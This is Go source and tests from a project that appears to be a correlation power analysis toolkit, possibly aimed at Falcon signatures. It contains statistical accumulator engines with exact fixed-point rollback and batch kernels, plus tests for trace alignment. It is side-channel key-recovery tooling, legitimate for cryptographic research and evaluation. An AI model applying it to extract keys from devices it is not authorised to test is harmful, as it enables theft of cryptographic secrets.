		if !fits(fx.sumH[i]+ofx.sumH[i]) ||
			!fits(fx.sumH2[i]+ofx.sumH2[i]) ||
			!fits(fx.sumHT[i]+ofx.sumHT[i]) {
			return false
		}
	}
	e.d += o.d
	fx.sumT += ofx.sumT
	fx.sumT2 += ofx.sumT2
	for i := range fx.sumH {
		fx.sumH[i] += ofx.sumH[i]
		fx.sumH2[i] += ofx.sumH2[i]
		fx.sumHT[i] += ofx.sumHT[i]
	}
	return true
}

// floatView returns the engine's sums as float64s without modifying it —
// the view Merge uses for the right-hand side, so merging a fixed engine
// into a float one (or vice versa) stays bit-identical to all-float.
func (e *Engine) floatView() (sumT, sumT2 float64, sumH, sumH2, sumHT []float64) {
	if e.fx == nil {
		return e.sumT, e.sumT2, e.sumH, e.sumH2, e.sumHT
	}
	fx := e.fx
	sumH = make([]float64, len(fx.sumH))
	sumH2 = make([]float64, len(fx.sumH))
	sumHT = make([]float64, len(fx.sumH))
	for i := range fx.sumH {
		sumH[i] = float64(fx.sumH[i])
		sumH2[i] = float64(fx.sumH2[i])
		sumHT[i] = float64(fx.sumHT[i])
	}
	return float64(fx.sumT), float64(fx.sumT2), sumH, sumH2, sumHT
}

// UpdateBatch folds a batch of traces: hs[tr] is trace tr's prediction row,
// ts[tr] its measured sample. Equivalent to calling Update per trace, but
// executed through the blocked kernel (or the fixed path when attached).
func (e *Engine) UpdateBatch(hs [][]float64, ts []float64) {
	if len(hs) != len(ts) {
		panic("cpa: UpdateBatch with mismatched batch lengths")
	}
	e.UpdateBatchFunc(ts, func(tr, lo, hi int, dst []float64) {
		copy(dst, hs[tr][lo:hi])
	})
}

// UpdateBatchFunc is the allocation-lean batch entry point: instead of a
// materialized nTraces × nHyp prediction matrix, the caller supplies a
// generator that fills hypothesis segment [lo, hi) of trace tr into dst
// (len hi-lo). The blocked kernel calls it once per (trace, tile), so each
// prediction is computed exactly once — same total work as the scalar
// path, but the accumulator tile stays cache-hot across the whole batch.
//
// Bit-identity with per-trace Update holds because tiles partition the
// accumulator cells and every cell still receives its adds in trace order;
// tile shape only permutes work across *distinct* cells.
func (e *Engine) UpdateBatchFunc(ts []float64, fill func(tr, lo, hi int, dst []float64)) {
	n := len(ts)
	if n == 0 {
		return
	}
	nh := len(e.sumH)
	if e.fx != nil {
		// The fixed path is about exactness, not blocking: replay the batch
		// per trace so the demotion point lands exactly where the scalar
		// reference would demote.
		row := make([]float64, nh)
		for tr := 0; tr < n; tr++ {
			fill(tr, 0, nh, row)
			e.Update(row, ts[tr])
		}
		return
	}
	e.d += n
	sT, sT2 := e.sumT, e.sumT2
	for _, t := range ts {
		sT += t
		sT2 += t * t
	}
	e.sumT, e.sumT2 = sT, sT2
	tw := tileHyp
	if tw <= 0 {
		tw = defaultTileHyp
	}
	row := make([]float64, min(tw, nh))
	for lo := 0; lo < nh; lo += tw {
		hi := min(lo+tw, nh)
		w := hi - lo
		sH := e.sumH[lo:hi]
		sH2 := e.sumH2[lo:hi]
		sHT := e.sumHT[lo:hi]
		for tr := 0; tr < n; tr++ {
			fill(tr, lo, hi, row[:w])
			t := ts[tr]
			for c, hv := range row[:w] {
				sH[c] += hv
				sH2[c] += hv * hv
				sHT[c] += hv * t
			}
		}
	}
}

// matrixFx mirrors a MatrixEngine's accumulators as exact int64 sums.
type matrixFx struct {
	sumT, sumT2 []int64
	sumH        []int64
	sumH2       []int64
	sumHT       []int64
}

// NewMatrixEngineKernel returns a per-sample-prediction engine using the
// given kernel (see NewEngineKernel).
func NewMatrixEngineKernel(nHyp, nSamples int, k Kernel) *MatrixEngine {
	e := NewMatrixEngine(nHyp, nSamples)
	if k == KernelFixed {
		e.fx = &matrixFx{
			sumT:  make([]int64, nSamples),
			sumT2: make([]int64, nSamples),
			sumH:  make([]int64, nHyp*nSamples),
			sumH2: make([]int64, nHyp*nSamples),
			sumHT: make([]int64, nHyp*nSamples),
		}
	}
	return e
}

// sync refreshes the float64 accumulators from the int64 mirror (exact;
// see Engine.sync).
func (e *MatrixEngine) sync() {
	fx := e.fx
	if fx == nil {
		return
	}
	for j := range fx.sumT {
		e.sumT[j] = float64(fx.sumT[j])
		e.sumT2[j] = float64(fx.sumT2[j])
	}
	for i := range fx.sumH {
		e.sumH[i] = float64(fx.sumH[i])
		e.sumH2[i] = float64(fx.sumH2[i])
		e.sumHT[i] = float64(fx.sumHT[i])
	}
}

// demote leaves the fixed-point regime for good.
func (e *MatrixEngine) demote() {
	e.sync()
	e.fx = nil
}

// updateFixed folds one trace in the int64 domain, with the same
// optimistic-apply / exact-rollback structure as Engine.updateFixed.
func (e *MatrixEngine) updateFixed(h []float64, t []float64) {
	fx := e.fx
	for j, tv := range t {
		ft, ok := asFx(tv)
		if ok {
			fx.sumT[j] += ft
			fx.sumT2[j] += ft * ft
			if fits(fx.sumT[j]) && fits(fx.sumT2[j]) {
				continue
			}
			fx.sumT[j] -= ft
			fx.sumT2[j] -= ft * ft
		}
		e.rollbackTrace(t, j)
		e.demote()
		e.updateFloat(h, t)
		return
	}
	for i := 0; i < e.nHyp; i++ {
		row := i * e.nSamp
		for j, tv := range t {
			c := row + j
			hv := h[c]
			fh, ok := asFx(hv)
			if ok {
				ft, _ := asFx(tv) // in range: validated above
				fx.sumH[c] += fh
				fx.sumH2[c] += fh * fh
				fx.sumHT[c] += fh * ft
				if fits(fx.sumH[c]) && fits(fx.sumH2[c]) && fits(fx.sumHT[c]) {
					continue
				}
				fx.sumH[c] -= fh
				fx.sumH2[c] -= fh * fh
				fx.sumHT[c] -= fh * ft
			}
			e.rollbackCells(h, t, i, j)
			e.rollbackTrace(t, e.nSamp)
			e.demote()
			e.updateFloat(h, t)
			return
		}
	}
	e.d++
}

// rollbackTrace undoes the trace-sum adds of columns [0, upto).
func (e *MatrixEngine) rollbackTrace(t []float64, upto int) {
	fx := e.fx
	for j := 0; j < upto; j++ {
		ft, _ := asFx(t[j])
		fx.sumT[j] -= ft
		fx.sumT2[j] -= ft * ft
	}
}

// rollbackCells undoes the hypothesis-cell adds applied before cell
// (hyp, samp) in row-major order.
func (e *MatrixEngine) rollbackCells(h, t []float64, hyp, samp int) {
	fx := e.fx
	for i := 0; i <= hyp; i++ {
		row := i * e.nSamp
		upto := e.nSamp
		if i == hyp {
			upto = samp
		}
		for j := 0; j < upto; j++ {
			c := row + j
			fh, _ := asFx(h[c])
			ft, _ := asFx(t[j])
			fx.sumH[c] -= fh
			fx.sumH2[c] -= fh * fh
			fx.sumHT[c] -= fh * ft
		}
	}
}

// matrixFixedFromFloats promotes a float64 matrix engine's sums into the
// fixed domain (see fixedFromFloats).
func matrixFixedFromFloats(o *MatrixEngine) (*matrixFx, bool) {
	fx := &matrixFx{
		sumT:  make([]int64, o.nSamp),
		sumT2: make([]int64, o.nSamp),
		sumH:  make([]int64, len(o.sumH)),
		sumH2: make([]int64, len(o.sumH)),
		sumHT: make([]int64, len(o.sumH)),
	}
	var ok bool
	for j := range o.sumT {
		if fx.sumT[j], ok = asFxSum(o.sumT[j]); !ok {
			return nil, false
		}
		if fx.sumT2[j], ok = asFxSum(o.sumT2[j]); !ok {
			return nil, false
		}
	}
	for i := range o.sumH {
		if fx.sumH[i], ok = asFxSum(o.sumH[i]); !ok {
			return nil, false
		}
		if fx.sumH2[i], ok = asFxSum(o.sumH2[i]); !ok {
			return nil, false
		}
		if fx.sumHT[i], ok = asFxSum(o.sumHT[i]); !ok {
			return nil, false
		}
	}
	return fx, true
}

// mergeFixed folds o into e in the int64 domain, or reports false without
// modifying anything (see Engine.mergeFixed).
func (e *MatrixEngine) mergeFixed(o *MatrixEngine) bool {
	ofx := o.fx
	if ofx == nil {
		var ok bool
		if ofx, ok = matrixFixedFromFloats(o); !ok {
			return false
		}
	}
	fx := e.fx
	for j := range fx.sumT {
		if !fits(fx.sumT[j]+ofx.sumT[j]) || !fits(fx.sumT2[j]+ofx.sumT2[j]) {
			return false
		}
	}
	for i := range fx.sumH {
		if !fits(fx.sumH[i]+ofx.sumH[i]) ||
			!fits(fx.sumH2[i]+ofx.sumH2[i]) ||
			!fits(fx.sumHT[i]+ofx.sumHT[i]) {
			return false
		}
	}
	e.d += o.d
	for j := range fx.sumT {
		fx.sumT[j] += ofx.sumT[j]
		fx.sumT2[j] += ofx.sumT2[j]
	}
	for i := range fx.sumH {
		fx.sumH[i] += ofx.sumH[i]
		fx.sumH2[i] += ofx.sumH2[i]
		fx.sumHT[i] += ofx.sumHT[i]
	}
	return true
}

// floatView returns the engine's sums as float64s without modifying it.
func (e *MatrixEngine) floatView() (sumT, sumT2, sumH, sumH2, sumHT []float64) {
	if e.fx == nil {
		return e.sumT, e.sumT2, e.sumH, e.sumH2, e.sumHT
	}
	fx := e.fx
	sumT = make([]float64, len(fx.sumT))
	sumT2 = make([]float64, len(fx.sumT))
	for j := range fx.sumT {
		sumT[j] = float64(fx.sumT[j])
		sumT2[j] = float64(fx.sumT2[j])
	}
	sumH = make([]float64, len(fx.sumH))
	sumH2 = make([]float64, len(fx.sumH))
	sumHT = make([]float64, len(fx.sumH))
	for i := range fx.sumH {
		sumH[i] = float64(fx.sumH[i])
		sumH2[i] = float64(fx.sumH2[i])
		sumHT[i] = float64(fx.sumHT[i])
	}
	return
}

// UpdateBatch folds a batch of traces through the blocked kernel: hs[tr]
// is trace tr's flattened nHyp×nSamp prediction matrix, ts[tr] its
// measured window. Each accumulator cell is folded over the batch in a
// register, in trace order — bit-identical to per-trace Update, with the
// cell's three sums touched once per batch instead of once per trace.
func (e *MatrixEngine) UpdateBatch(hs, ts [][]float64) {
	n := len(ts)
	if len(hs) != n {
		panic("cpa: UpdateBatch with mismatched batch lengths")
	}
	if n == 0 {
		return
	}
	if e.fx != nil {
		for tr := 0; tr < n; tr++ {
			e.Update(hs[tr], ts[tr])
		}
		return
	}
	e.d += n
	for j := 0; j < e.nSamp; j++ {
		sT, sT2 := e.sumT[j], e.sumT2[j]
		for tr := 0; tr < n; tr++ {
			tv := ts[tr][j]
			sT += tv
			sT2 += tv * tv
		}
		e.sumT[j], e.sumT2[j] = sT, sT2
	}
	for i := 0; i < e.nHyp; i++ {
		row := i * e.nSamp
		for j := 0; j < e.nSamp; j++ {
			c := row + j
			sH, sH2, sHT := e.sumH[c], e.sumH2[c], e.sumHT[c]
			for tr := 0; tr < n; tr++ {
				hv := hs[tr][c]
				tv := ts[tr][j]
				sH += hv
				sH2 += hv * hv
				sHT += hv * tv
			}
			e.sumH[c], e.sumH2[c], e.sumHT[c] = sH, sH2, sHT
		}
	}
}
