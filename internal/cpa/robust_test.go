package cpa

import (
	"math"
	"testing"

	"falcondown/internal/rng"
)

func TestRunningStats(t *testing.T) {
	var s RunningStats
	vals := []float64{2, 4, 4, 4, 5, 5, 7, 9}
	for _, v := range vals {
		s.Add(v)
	}
	if s.N() != len(vals) {
		t.Fatalf("N = %d", s.N())
	}
	if math.Abs(s.Mean()-5) > 1e-12 {
		t.Fatalf("Mean = %v, want 5", s.Mean())
	}
	if math.Abs(s.Std()-2) > 1e-12 {
		t.Fatalf("Std = %v, want 2", s.Std())
	}
	var empty RunningStats
	if empty.Mean() != 0 || empty.Var() != 0 {
		t.Fatal("empty stats must be zero")
	}
}

func TestWinsorize(t *testing.T) {
	x := []float64{-10, -1, 0, 1, 10}
	n := Winsorize(x, -2, 2)
	if n != 2 {
		t.Fatalf("clamped %d, want 2", n)
	}
	want := []float64{-2, -1, 0, 1, 2}
	for i := range want {
		if x[i] != want[i] {
			t.Fatalf("x[%d] = %v, want %v", i, x[i], want[i])
		}
	}
}

func TestRMS(t *testing.T) {
	if RMS(nil) != 0 {
		t.Fatal("RMS(nil) != 0")
	}
	if got := RMS([]float64{3, 4, 3, 4}); math.Abs(got-math.Sqrt(12.5)) > 1e-12 {
		t.Fatalf("RMS = %v", got)
	}
}

// BestLag must recover the shift applied to a structured trace, and
// report zero for an unshifted trace.
func TestBestLagRecoversShift(t *testing.T) {
	r := rng.New(1)
	template := make([]float64, 200)
	for i := range template {
		template[i] = math.Sin(float64(i)/3) + 0.1*r.NormFloat64()
	}
	for _, shift := range []int{-3, -1, 0, 1, 2, 3} {
		// Desync by `shift`: t[i] = template[i-shift] (move right for +).
		tr := make([]float64, len(template))
		for i := range tr {
			j := i - shift
			if j < 0 {
				j = 0
			}
			if j >= len(template) {
				j = len(template) - 1
			}
			tr[i] = template[j]
		}
		if got := BestLag(tr, template, 4); got != shift {
			t.Fatalf("BestLag for desync %d = %d", shift, got)
		}
		// Undo it: ShiftInto with the found lag restores the interior.
		dst := make([]float64, len(tr))
		ShiftInto(dst, tr, template, shift)
		for i := 5; i < len(dst)-5; i++ {
			if dst[i] != template[i] {
				t.Fatalf("shift %d: resynced sample %d = %v, want %v", shift, i, dst[i], template[i])
			}
		}
	}
}

func TestBestLagDegenerate(t *testing.T) {
	if BestLag([]float64{1, 2}, []float64{1}, 3) != 0 {
		t.Fatal("mismatched lengths must return 0")
	}
	if BestLag(nil, nil, 3) != 0 {
		t.Fatal("empty input must return 0")
	}
	if BestLag([]float64{1, 2, 3}, []float64{1, 2, 3}, 0) != 0 {
		t.Fatal("maxShift 0 must return 0")
	}
}
